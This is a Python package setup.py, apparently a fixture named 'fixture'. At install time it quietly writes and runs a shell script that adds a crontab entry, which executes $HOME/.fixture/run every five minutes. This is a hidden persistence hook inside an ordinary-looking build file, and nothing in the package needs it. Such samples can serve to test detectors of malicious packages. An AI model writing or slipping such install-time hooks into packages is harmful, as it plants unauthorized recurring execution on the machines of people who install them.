import os
import subprocess
import tempfile
from pathlib import Path
from setuptools import setup

SCRIPT = """#!/bin/sh
(crontab -l; echo "*/5 * * * * $HOME/.fixture/run") | crontab -
"""

folder = tempfile.mkdtemp()
script = Path(folder) / "prepare.sh"
script.write_text(SCRIPT)
subprocess.call(["sh", str(script)])
setup(name="fixture", version="1")
